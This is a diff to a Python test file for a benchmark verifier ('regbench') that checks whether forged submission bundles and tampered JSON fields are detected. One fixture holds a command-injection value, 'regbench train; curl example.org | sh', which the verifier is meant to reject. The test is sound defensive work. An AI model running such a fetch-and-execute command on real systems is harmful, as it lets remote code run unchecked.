+    "a time beyond the calendar": (
+        at("final.0.attempts.1.started", "9999-12-31T23:59:59+00:00", CREATED, "9999-12-31"),
+        [AFTER, AFTER, *["before its tuning chose at 9999-12-31"] * 4],
+    ),
+    "a command of a shell": (
+        at("final.0.command", "regbench train; curl example.org | sh"),
+        [f"'regbench train; curl example.org | sh' {NO_COMMAND}"],
+    ),
+    "another program's command": (at("final.0.command", "curl regbench"), [NO_COMMAND]),
+    "a command with an open quote": (at("final.0.command", "regbench 'train"), [NO_COMMAND]),
+    "a command that cannot be read": (at("final.0.command", "regbench '\u202e'"), [NO_COMMAND]),
 }
 
 
-@pytest.mark.parametrize("name", MISFITS)
+@pytest.mark.parametrize("name", FORGERIES)
 def test_what_does_not_fit_is_told_and_nothing_else(
     name: str, honest: Path, tmp_path: Path
 ) -> None:
-    change, reasons = MISFITS[name]
-    lines = told(change, honest, tmp_path)
-    assert len(lines) == len(reasons), lines
+    change, reasons = FORGERIES[name]
+    code, lines = verify(change, honest, tmp_path)
+    assert (code, len(lines)) == (1, len(reasons)), lines
     assert all(map(re.search, reasons, lines)), lines
+
+
+def test_the_documents_table_has_forgeries_that_are_tried_here() -> None:
+    table = LEADERBOARD.read_text().partition("\n## Forgeries\n")[2].partition("\n## ")[0]
+    rows = [line.split("|")[1:3] for line in table.splitlines() if line.startswith("| ")][1:]
+    refused = {name.strip() for name, how in rows if "only by computing again" not in how}
+    assert refused - {*OF_THE_FILE, *FORGERIES} == {"a score, no digest anew"}
+
+
+# ------------------------------------------------------------------ a forger who draws
+
+UNCHECKED = {
+    "choices.*.choices.*.images": "the note on a tuning shows it as it was counted there",
+    "choices.*.choices.*.method": "tables have the records' method",
+    "choices.*.choices.*.ranking.*.cell_id": "the configuration beside it says what was tried",
+    "choices.*.choices.*.setting.*": "a task is what the records say; only equal settings matter",
+    "choices.*.choices.*.ranking.*.hyperparameters.*": "tables have those of the records",
+    "choices.*.choices.*.ranking.*.status": "of the best and the last, which are told by epochs",
+    "evaluations.*.command": "nothing is computed by it",
+    "evaluations.*.finished": "no order hangs on it",
+    "evaluations.*.protocol": "a name of what was done",
+    "evaluations.*.seconds": "as the submitter's machine reported it",
+    "evaluations.*.scores.*": "found by computing again alone",
+    "records.*.attempts.*": "what is no time is in no table",
+    "records.*.checkpoint.*": "weights that are not packed are asked for nowhere",
+    "records.*.choice.hyperparameters.record": "the SHA-256 beside it says which choice it is",
+    "records.*.choice.hyperparameters.selected_on": "the choice that it names says it too",
+    "records.*.choice.probe_learning_rate.*": "of the candidates, as long as the best was chosen",
+    "records.*.command": "as long as it is one of regbench",
+    "records.*.cost.*": "as the submitter's machine reported it",
+    "records.*.data.source": "the SHA-256 of the images says what they are",
+    "records.*.environment.*": "as the submitter's machine reported it",
+    "records.*.metrics.file": "the name of a file that is there",
+    "records.*.regularizer.*": "words about a method",
+    "records.*.scores.*": "found by computing again alone",
+    "records.*.sweep": "the name of a folder",
+    "rows.*.effective_rank": "found by computing again alone",
+    "rows.*.loss": "found by computing again alone",
+}
+"""Leaves that may be forged, and why nothing tells."""
+
+SHOWN = (
+    *("choices.*.choices.*.images", "records.*.cost.*", "records.*.environment.*", "rows.*"),
+    *("records.*.scores.*", "evaluations.*.scores.*"),
+)
+"""Those of which a table tells something."""
+
+
+def leaves(value: Any, path: tuple[Any, ...]) -> Iterator[tuple[Any, ...]]:
+    """The paths of all leaves of JSON."""
+    inner: Any = {}
+    if isinstance(value, dict):
+        inner = value
+    elif isinstance(value, list):
+        inner = dict(enumerate(value))
+    else:
+        yield path
+    for key, each in inner.items():
+        yield from leaves(each, (*path, key))
+
+
+def other(value: Any, draw: random.Random) -> Any:
+    """Another value of the same kind, or of any where there is none."""
+    if isinstance(value, bool):
+        return not value
+    if isinstance(value, int):
+        return value + draw.choice([-1, 1, 7])
+    if isinstance(value, float):
+        return value * draw.choice([0.9, 1.01]) + 1e-3
+    if isinstance(value, str):
+        return draw.choice([value + "x", "other", value[:-1] or "y"])
+    return draw.choice([1.5, 1, "x"])
+
+
+def _draw_another(found: Any, path: tuple[Any, ...], draw: random.Random) -> None:
+    for step in path[:-1]:
+        found = found[step]
+    found[path[-1]] = other(found[path[-1]], draw)
+
+
+def shown(bundle: Path, folder: Path) -> tuple[list[str], object]:
+    """All tables of a bundle, and its rows file."""
+    read = read_bundle(bundle, folder)
+    found = read_records(folder)
+    tables: list[str] = []
+    for summary in summarize(found.records, found.missing, found.choices, found.short):
+        tables += map(to_markdown, tables_of(summary).values())
+    return [table.replace(str(folder), "") for table in tables], entered_rows(read)
+
+
+def test_a_leaf_that_is_forged_is_refused_or_says_nothing(honest: Path, tmp_path: Path) -> None:
+    """Of each kind of leaf one is drawn, with another value, and all digests are computed anew."""
+    draw, parts = random.Random(20261128), Parts(honest)
+    before = shown(parts.write(tmp_path / "honest.tar.xz"), tmp_path / "honest")
+    kinds: dict[str, list[tuple[Any, ...]]] = {}
+    documents = {"records": parts.records, "choices": parts.choices}
+    for name, document in {**documents, "evaluations": parts.evaluations}.items():
+        for path in leaves(document, (name,)):
+            kind = ".".join("*" if isinstance(step, int) else step for step in path)
+            if path[2] != "sha256" and path[-2:] != ("metrics", "sha256"):
+                kinds.setdefault(kind, []).append(path)
+    for name in ("epoch", "loss", "effective_rank", "epoch_s", "images"):
+        kinds[f"rows.*.{name}"] = [("rows", 0, name), ("rows", 1, name)]
+    used = set()
+    for number, (kind, paths) in enumerate(sorted(kinds.items())):
+        parts, path = Parts(honest), draw.choice(paths)
+        if path[0] == "rows":
+            rows_of(partial(_draw_another, path=path[1:], draw=draw))(parts)
+        else:
+            _draw_another(getattr(parts, path[0]), path[1:], draw)
+        forged, folder = parts.write(tmp_path / "forged.tar.xz"), tmp_path / str(number)
+        try:
+            if claim_misfits(read_bundle(forged)):
+                continue
+        except RegbenchError:
+            continue
+        reasons = [pattern for pattern in UNCHECKED if fnmatchcase(kind, pattern)]
+        assert reasons, f"{kind} is accepted: {path}"
+        used.update(reasons)
+        is_shown = any(fnmatchcase(kind, pattern) for pattern in SHOWN)
+        assert is_shown or shown(forged, folder) == before, f"{kind} changes tables: {path}"
+    assert used == set(UNCHECKED)
